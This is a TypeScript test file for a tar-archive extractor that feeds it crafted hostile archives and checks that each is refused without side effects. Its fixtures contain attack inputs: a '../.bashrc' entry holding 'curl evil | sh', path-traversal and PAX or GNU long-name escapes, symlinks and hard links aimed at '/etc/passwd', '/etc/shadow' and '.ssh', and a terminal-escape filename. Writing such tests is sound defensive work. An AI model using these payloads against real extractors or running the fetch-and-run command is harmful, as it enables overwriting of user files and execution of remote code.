/**
 * The extractor and placement together (TreeReceiver), fed hand-made archives: what root in a
 * sprite could send instead of GNU tar's output. Every refusal must say what was refused, leave
 * everything around the destination exactly as it was (a fingerprint of the whole test directory,
 * before and after) and leave no fresh directory behind.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pack, type Header } from 'tar-stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TEMP_PREFIX, TreeReceiver, type ReceiveOptions } from './cp-from-sprite.ts';
import { DEFAULT_LIMITS, RECORD_PADDING, TarRefusal } from './tar-extract.ts';

type Entry = { header: Partial<Header> & { name: string }; data?: string | Buffer };

/** An archive as tar-stream writes it (ustar, PAX headers where asked), with the end marker. */
async function archive(entries: Entry[]): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  p.on('data', (c) => chunks.push(c as Buffer));
  const ended = new Promise<void>((resolve) => p.on('end', () => resolve()));
  for (const e of entries) {
    await new Promise<void>((resolve, reject) => {
      const cb = (err?: Error | null) => (err ? reject(err) : resolve());
      if (e.data === undefined) p.entry({ mode: e.header.type === 'directory' ? 0o755 : 0o644, mtime: new Date(1_500_000_000_000), ...e.header }, cb).end(null);
      else p.entry({ mode: 0o644, mtime: new Date(1_500_000_000_000), ...e.header }, e.data, cb);
    });
  }
  p.finalize();
  await ended;
  return Buffer.concat(chunks);
}

/** One raw 512-byte ustar header, for what tar-stream's packer will not write (GNU long names). */
function rawHeader(name: string, typeflag: string, size: number): Buffer {
  const b = Buffer.alloc(512);
  b.write(name, 0, 100);
  b.write('0000644\0', 100);
  b.write('0000000\0', 108);
  b.write('0000000\0', 116);
  b.write(`${size.toString(8).padStart(11, '0')}\0`, 124);
  b.write('13000000000\0', 136);
  b.fill(' ', 148, 156);
  b.write(typeflag, 156);
  b.write('ustar\0', 257);
  b.write('00', 263);
  let sum = 0;
  for (const byte of b) sum += byte;
  b.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return b;
}

function padded(data: Buffer): Buffer {
  return Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
}

/**
 * Every entry under `root` (symlinks not followed): mode, owner, size, mtime, contents' hash, link
 * target, inode. A directory's own mtime is left out: making and removing the fresh directory
 * beside the destination changes its parent's, and nothing else.
 */
function fingerprint(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string, rel: string) => {
    for (const name of fs.readdirSync(dir).sort()) {
      const p = path.join(dir, name);
      const r = `${rel}/${name}`;
      const st = fs.lstatSync(p);
      const base = `${r} ${(st.mode & 0o7777).toString(8)} ${st.uid}:${st.gid} ino ${st.ino}`;
      if (st.isSymbolicLink()) out.push(`${base} ${st.mtimeMs} -> ${fs.readlinkSync(p)}`);
      else if (st.isDirectory()) {
        out.push(`${base} dir`);
        walk(p, r);
      } else out.push(`${base} ${st.mtimeMs} ${st.size} ${crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex')}`);
    }
  };
  const st = fs.statSync(root);
  out.push(`. ${(st.mode & 0o7777).toString(8)}`);
  walk(root, '');
  return out;
}

let root: string;
let home: string;
let outside: string;

beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'tar-extract-'));
  // A home directory with the things a hostile archive aims for, and a file outside it.
  home = path.join(root, 'home');
  outside = path.join(root, 'outside');
  fs.mkdirSync(path.join(home, '.ssh'), { recursive: true, mode: 0o700 });
  fs.mkdirSync(path.join(home, 'repo/.git/hooks'), { recursive: true });
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(home, '.bashrc'), 'alias ls="ls --color"\n');
  fs.writeFileSync(path.join(home, '.ssh/authorized_keys'), 'ssh-ed25519 AAAA me\n', { mode: 0o600 });
  fs.writeFileSync(path.join(outside, 'secret'), 'do not touch\n');
  fs.symlinkSync('../outside', path.join(home, 'to-outside'));
  fs.chmodSync(home, 0o755);
});

afterEach(() => {
  fs.rmSync(root, { recursive: true, force: true });
});

/** `spritely cp dev:/root/src ~` (the default) or any other placement, through the real pipeline. */
async function receive(data: Buffer, opts: Partial<ReceiveOptions> = {}, chunk = 1000) {
  const rx = new TreeReceiver({ kind: 'dir', top: 'src', target: path.join(home, 'src'), typed: false, limits: DEFAULT_LIMITS, umask: 0o022, ...opts });
  try {
    for (let i = 0; i < data.length; i += chunk) await rx.write(data.subarray(i, i + chunk));
    return await rx.finish();
  } finally {
    rx.remove();
    expect(fs.existsSync(rx.tempDir)).toBe(false);
  }
}

const dir = (name: string, mode = 0o755): Entry => ({ header: { name, type: 'directory', mode } });
const file = (name: string, data: string | Buffer, mode = 0o644): Entry => ({ header: { name, type: 'file', mode }, data });
const symlink = (name: string, linkname: string): Entry => ({ header: { name, type: 'symlink', linkname } });
/** `cp dev:/root/. ~`: merge the sprite's directory into the home directory. */
const intoHome: Partial<ReceiveOptions> = { top: '.', target: '', typed: true };
const homeTarget = (): Partial<ReceiveOptions> => ({ top: '.', target: home, typed: true });

describe('hostile archives: refused, nothing around the destination changed, nothing left behind', () => {
  const cases: [string, () => Promise<Buffer>, Partial<ReceiveOptions>, RegExp][] = [
    ['an extra member beside the destination (../.bashrc)', () => archive([dir('src/'), file('src/ok', 'fine'), file('../.bashrc', 'curl evil | sh\n')]), {}, /the entry "\.\.\/\.bashrc" has a "\.\." component/],
    ['a ".." inside a name', () => archive([dir('src/'), file('src/../.bashrc', 'x')]), {}, /"src\/\.\.\/\.bashrc" has a "\.\." component/],
    ['a ".." when merging into the home directory', () => archive([dir('./'), file('./.ssh/../../outside/secret', 'x')]), intoHome, /has a "\.\." component/],
    ['an absolute name', () => archive([dir('src/'), file('/tmp/evil', 'x')]), {}, /the entry "\/tmp\/evil" is an absolute path/],
    ['a name under another top-level entry', () => archive([dir('src/'), file('.bashrc', 'x')]), {}, /"\.bashrc" is not under "src"/],
    ['a second top-level directory', () => archive([dir('src/'), dir('repo/'), file('repo/.git/hooks/pre-commit', '#!/bin/sh\n', 0o755)]), {}, /"repo\/" is not under "src"/],
    ['a duplicate file (the second would overwrite the first)', () => archive([dir('src/'), file('src/a', 'one'), file('src/a', 'two')]), {}, /"src\/a" appears twice/],
    ['a duplicate top-level directory', () => archive([dir('src/'), dir('src/')]), {}, /"src\/" appears twice/],
    ['a character device', () => archive([dir('src/'), { header: { name: 'src/null', type: 'character-device', devmajor: 1, devminor: 3 } }]), {}, /"src\/null" is a character device/],
    ['a block device', () => archive([dir('src/'), { header: { name: 'src/sda', type: 'block-device', devmajor: 8, devminor: 0 } }]), {}, /"src\/sda" is a block device/],
    ['a FIFO', () => archive([dir('src/'), { header: { name: 'src/pipe', type: 'fifo' } }]), {}, /"src\/pipe" is a FIFO/],
    ['a symlink out of the tree', () => archive([dir('src/'), symlink('src/l', '../.ssh')]), {}, /"src\/l" is a symlink to "\.\.\/\.ssh", which points outside/],
    ['a symlink to an absolute path', () => archive([dir('src/'), symlink('src/l', '/etc/passwd')]), {}, /symlink to the absolute path "\/etc\/passwd"/],
    ['a symlink that climbs after a name', () => archive([dir('src/'), dir('src/d/'), symlink('src/d/up', '..'), symlink('src/l', 'd/up/..')]), {}, /"src\/l" is a symlink to "d\/up\/\.\.", which has a "\.\." after a name/],
    ['a file written through a symlink the archive made', () => archive([dir('src/'), dir('src/sub/'), symlink('src/l', 'sub'), file('src/l/evil', 'x')]), {}, /"src\/l\/evil" is under "src\/l", a symlink made earlier/],
    ['a symlink merged into home, then a file through it', () => archive([dir('./'), symlink('./s', '.'), file('./s/.bashrc', 'x')]), intoHome, /"\.\/s\/\.bashrc" is under "\.\/s", a symlink/],
    ['an entry before its directory', () => archive([dir('src/'), file('src/a/b', 'x')]), {}, /"src\/a\/b" comes before the directory it is in/],
    ['a hard link to a file outside', () => archive([dir('src/'), { header: { name: 'src/h', type: 'link', linkname: '/etc/shadow' } }]), {}, /"src\/h" is a hard link to "\/etc\/shadow", which is not a file made earlier/],
    ['a hard link to a name outside the tree', () => archive([dir('src/'), { header: { name: 'src/h', type: 'link', linkname: '.bashrc' } }]), {}, /is a hard link to "\.bashrc"/],
    ['a PAX path that leaves the tree (header name looks fine)', () => archive([dir('src/'), { header: { name: 'src/innocent', type: 'file', pax: { path: '../.bashrc' } }, data: 'x' }]), {}, /the entry "\.\.\/\.bashrc" has a "\.\." component/],
    ['a GNU long name that leaves the tree', async () => {
      const long = `src/${'a'.repeat(120)}/../../../.bashrc`;
      const body = padded(Buffer.from(`${long}\0`));
      return Buffer.concat([rawHeader('src/', '5', 0), rawHeader('././@LongLink', 'L', long.length + 1), body, rawHeader('src/short', '0', 1), padded(Buffer.from('x')), Buffer.alloc(1024)]);
    }, {}, /has a "\.\." component/],
    ['a top-level file where a directory was asked for', () => archive([file('src', 'x')]), {}, /"src" is not a directory, but the source is one/],
    ['a top-level symlink where a file was asked for', () => archive([symlink('f', '/home')]), { kind: 'file', top: 'f', target: '' }, /"f" is a symlink \(to "\/home"\)/],
    ['an extra entry after a single file', () => archive([file('f', 'x'), file('f/../../x', 'y')]), { kind: 'file', top: 'f', target: '' }, /has a "\.\." component/],
    ['a stream that ends in the middle of a file', async () => (await archive([dir('src/'), file('src/big', Buffer.alloc(5000, 1))])).subarray(0, 512 * 4), {}, /ends in the middle of/],
    ['a stream that ends in the middle of a header', async () => (await archive([dir('src/'), file('src/a', 'x')])).subarray(0, 512 * 2 + 100), {}, /ends in the middle of an entry/],
    ['a stream cut between entries (no end-of-archive marker)', async () => (await archive([dir('src/'), file('src/a', 'x')])).subarray(0, 512 * 3), {}, /ends without tar's end-of-archive marker/],
    ['no top-level entry at all', async () => Buffer.alloc(1024), {}, /the archive has no entry "src"/],
    ['bytes that are not tar', async () => Buffer.from('<html>not a tar</html>'.repeat(100)), {}, /not a valid tar stream/],
    ['a file over the per-file limit (refused from its header)', () => archive([dir('src/'), file('src/big', Buffer.alloc(3000))]), { limits: { ...DEFAULT_LIMITS, maxFileBytes: 2048 } }, /"src\/big" is 3000 bytes, over the limit of 2048 bytes for one file \(raise it with --max-file-size\)/],
    ['entries after the total size limit (and the last record\'s padding)', () => archive([dir('src/'), file('src/a', Buffer.alloc(100_000)), file('src/b', Buffer.alloc(100_000)), file('src/c', Buffer.alloc(100_000))]), { limits: { ...DEFAULT_LIMITS, maxBytes: 100_000 } }, /larger than the limit of 100000 bytes \(raise it with --max-size\)/],
    ['more entries than the limit', () => archive([dir('src/'), file('src/a', ''), file('src/b', ''), file('src/c', '')]), { limits: { ...DEFAULT_LIMITS, maxEntries: 3 } }, /more than 3 entries \(raise the limit with --max-entries\)/],
  ];

  for (const [what, make, opts, message] of cases) {
    it(what, async () => {
      const data = await make();
      const o = { ...opts };
      if (o.target === '') o.target = o.top === '.' ? home : path.join(home, o.top!);
      const before = fingerprint(root);
      const err = await receive(data, o).then(() => null, (e: unknown) => e as Error);
      expect(err, 'refused').toBeInstanceOf(TarRefusal);
      expect(err!.message).toMatch(message);
      expect(fingerprint(root)).toEqual(before);
      expect(fs.readdirSync(home).filter((n) => n.startsWith(TEMP_PREFIX))).toEqual([]);
    });
  }

  it('a small archive padded to a whole 128 KiB record passes a --max-size below the record', async () => {
    const small = await archive([file('f', 'tiny')]);
    const padded = Buffer.concat([small, Buffer.alloc(RECORD_PADDING - small.length)]);
    const o = { kind: 'file' as const, top: 'f', target: path.join(home, 'f'), limits: { ...DEFAULT_LIMITS, maxBytes: 1000 } };
    await receive(padded, o);
    expect(fs.readFileSync(path.join(home, 'f'), 'utf8')).toBe('tiny');
  });

  it('shows a hostile name made inert in the message', async () => {
    const err = (await receive(await archive([dir('src/'), { header: { name: 'src/\x1b]0;owned\x07\u202e', type: 'fifo' } }])).catch((e: unknown) => e)) as Error;
    expect(err.message).toBe('the entry "src/\\x1b]0;owned\\x07\\u202e" is a FIFO');
    expect(err.message).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/);
  });

  it('refuses entries it gets after a refusal and writes nothing more', async () => {
    const rx = new TreeReceiver({ kind: 'dir', top: 'src', target: path.join(home, 'src'), typed: false, limits: DEFAULT_LIMITS, umask: 0o022 });
    await expect(rx.write(await archive([dir('src/'), file('/abs', 'x')]))).rejects.toThrow(/absolute/);
    await expect(rx.write(await archive([file('src/more', 'y')]))).rejects.toThrow(/absolute/);
    await expect(rx.finish()).rejects.toThrow(/absolute/);
    expect(fs.existsSync(rx.tempDir)).toBe(false);
    expect(fs.existsSync(path.join(home, 'src'))).toBe(false);
  });
});

describe('good archives', () => {
  const tree = (r: string) => fingerprint(r).slice(1);

  it('a tree: modes without setuid/setgid/sticky, umask applied, mtimes, binary and empty files, contained symlinks, hard links', async () => {
    const bin = crypto.randomBytes(70_000);
    const t = new Date(1_600_000_000_000);
    await receive(await archive([
      dir('src/', 0o750),
      { header: { name: 'src/bin', type: 'file', mode: 0o644, mtime: t }, data: bin },
      { header: { name: 'src/empty', type: 'file', mode: 0o600, mtime: t }, data: '' },
      { header: { name: 'src/run.sh', type: 'file', mode: 0o4755, mtime: t }, data: '#!/bin/sh\n' },
      { header: { name: 'src/world', type: 'file', mode: 0o777, mtime: t }, data: 'w' },
      { header: { name: 'src/sticky/', type: 'directory', mode: 0o1777, mtime: t } },
      { header: { name: 'src/sticky/deep/', type: 'directory', mode: 0o555, mtime: t } },
      { header: { name: 'src/sticky/deep/f', type: 'file', mode: 0o444, mtime: t }, data: 'ro' },
      { header: { name: 'src/sticky/up', type: 'symlink', linkname: '../bin', mtime: t } },
      { header: { name: 'src/dangling', type: 'symlink', linkname: 'not-there' } },
      { header: { name: 'src/hard', type: 'link', linkname: 'src/bin' } },
    ]));
    const s = path.join(home, 'src');
    const mode = (p: string) => (fs.lstatSync(path.join(s, p)).mode & 0o7777).toString(8);
    expect([mode('.'), mode('bin'), mode('empty'), mode('run.sh'), mode('world'), mode('sticky'), mode('sticky/deep'), mode('sticky/deep/f')]).toEqual(['750', '644', '600', '755', '755', '755', '555', '444']);
    expect(fs.readFileSync(path.join(s, 'bin')).equals(bin)).toBe(true);
    expect(fs.readFileSync(path.join(s, 'sticky/up')).equals(bin)).toBe(true);
    expect(fs.statSync(path.join(s, 'empty')).size).toBe(0);
    expect(fs.readlinkSync(path.join(s, 'dangling'))).toBe('not-there');
    expect(fs.statSync(path.join(s, 'hard')).ino).toBe(fs.statSync(path.join(s, 'bin')).ino);
    for (const p of ['bin', 'run.sh', 'sticky', 'sticky/deep', 'sticky/deep/f']) expect(fs.statSync(path.join(s, p)).mtimeMs, p).toBe(1_600_000_000_000);
    expect(fs.lstatSync(path.join(s, 'sticky/up')).mtimeMs).toBe(1_600_000_000_000);
    expect(fs.statSync(path.join(s, 'bin')).uid).toBe(process.getuid!());
    expect(fs.readdirSync(home).filter((n) => n.startsWith(TEMP_PREFIX))).toEqual([]);
  });

  it('a single file, to a new name and over an existing file (or symlink, which is replaced, not followed)', async () => {
    const data = await archive([file('f', 'new contents\n', 0o640)]);
    await receive(data, { kind: 'file', top: 'f', target: path.join(home, 'renamed'), typed: true });
    expect(fs.readFileSync(path.join(home, 'renamed'), 'utf8')).toBe('new contents\n');
    expect(fs.statSync(path.join(home, 'renamed')).mode & 0o7777).toBe(0o640);
    await receive(data, { kind: 'file', top: 'f', target: path.join(home, '.bashrc'), typed: true });
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('new contents\n');
    fs.symlinkSync('../outside/secret', path.join(home, 'link'));
    const outsideBefore = fingerprint(outside);
    await receive(data, { kind: 'file', top: 'f', target: path.join(home, 'link'), typed: true });
    expect(fs.lstatSync(path.join(home, 'link')).isFile()).toBe(true);
    expect(fingerprint(outside)).toEqual(outsideBefore);
  });

  it('"SRC/." to a new directory: the "." entry\'s mode is not kept', async () => {
    await receive(await archive([dir('./', 0o777), file('./a', 'A')]), { top: '.', target: path.join(home, 'fresh'), typed: true });
    expect(fs.statSync(path.join(home, 'fresh')).mode & 0o777).toBe(0o755);
    expect(tree(path.join(home, 'fresh'))).toEqual([expect.stringMatching(/^\/a 644 \d+:\d+ ino \d+ 1500000000000 1 /)]);
  });

  it('a directory renamed on the way (the host picks the name)', async () => {
    await receive(await archive([dir('src/'), file('src/a', 'A')]), { target: path.join(home, 'other'), typed: true });
    expect(fs.readFileSync(path.join(home, 'other/a'), 'utf8')).toBe('A');
    expect(fs.existsSync(path.join(home, 'src'))).toBe(false);
  });

  it('merging into an existing directory keeps its mode and what the archive does not name; "./" 0777 changes nothing', async () => {
    const homeMode = fs.statSync(home).mode & 0o7777;
    const sshMode = fs.statSync(path.join(home, '.ssh')).mode & 0o7777;
    await receive(await archive([dir('./', 0o777), dir('./.ssh/', 0o777), file('./.ssh/config', 'Host *\n'), file('./notes', 'n')]), homeTarget());
    expect(fs.statSync(home).mode & 0o7777).toBe(homeMode);
    expect(fs.statSync(path.join(home, '.ssh')).mode & 0o7777).toBe(sshMode);
    expect(fs.readFileSync(path.join(home, '.ssh/authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA me\n');
    expect(fs.readFileSync(path.join(home, '.ssh/config'), 'utf8')).toBe('Host *\n');
    expect(fs.readFileSync(path.join(home, 'notes'), 'utf8')).toBe('n');
  });

  it('flow control: a write resolves only once its bytes are consumed — the file data in it on disk', async () => {
    const rx = new TreeReceiver({ kind: 'dir', top: 'src', target: path.join(home, 'src'), typed: false, limits: DEFAULT_LIMITS, umask: 0o022 });
    try {
      // One large chunk: the extractor takes it at once, and its write takes a while.
      const size = 48 * 1024 * 1024;
      const data = await archive([dir('src/'), file('src/big', Buffer.alloc(size, 7))]);
      const first = 1024 + size - 100_000;
      await rx.write(data.subarray(0, first));
      expect(fs.statSync(path.join(rx.tempDir, 'tree/big')).size).toBe(first - 1024);
      await rx.write(data.subarray(first));
      await rx.finish();
      expect(fs.statSync(path.join(home, 'src/big')).size).toBe(size);
    } finally {
      rx.remove();
    }
  });
});

describe('placement conflicts (docker cp refuses these too): found before anything moves', () => {
  const conflicts: [string, () => Promise<Buffer>, () => Partial<ReceiveOptions>, RegExp][] = [
    ['a directory over an existing symlink in the destination (never followed)', () => archive([dir('./'), dir('./to-outside/'), file('./to-outside/secret', 'x'), file('./z-first-move', 'z')]), homeTarget, /Cannot replace the symlink ".*\/home\/to-outside" with a directory/],
    ['a file over an existing directory', () => archive([dir('./'), file('./a-new', 'a'), file('./repo', 'x')]), homeTarget, /Cannot replace the directory ".*\/home\/repo" with a file/],
    ['a directory over an existing file', () => archive([dir('./'), dir('./.bashrc/')]), homeTarget, /Cannot replace the file ".*\/home\/\.bashrc" with a directory/],
  ];
  for (const [what, make, opts, message] of conflicts) {
    it(what, async () => {
      const before = fingerprint(root);
      await expect(receive(await make(), opts())).rejects.toThrow(message);
      expect(fingerprint(root)).toEqual(before);
    });
  }

  it('the destination itself: a file onto a directory, a directory onto a file (before any byte)', () => {
    expect(() => new TreeReceiver({ kind: 'file', top: 'f', target: path.join(home, 'repo'), typed: true, limits: DEFAULT_LIMITS, umask: 0o022 })).toThrow(/Cannot replace the directory .*repo with a file/);
    expect(() => new TreeReceiver({ kind: 'dir', top: 'src', target: path.join(home, '.bashrc'), typed: true, limits: DEFAULT_LIMITS, umask: 0o022 })).toThrow(/Cannot copy a directory onto the file .*\.bashrc/);
  });

  it('a destination the user typed that is a symlink to a directory is followed (like docker cp)', async () => {
    await receive(await archive([dir('./'), file('./new', 'n')]), { top: '.', target: path.join(home, 'to-outside'), typed: true });
    expect(fs.readFileSync(path.join(outside, 'new'), 'utf8')).toBe('n');
    expect(fs.readdirSync(outside).filter((n) => n.startsWith(TEMP_PREFIX))).toEqual([]);
  });
});
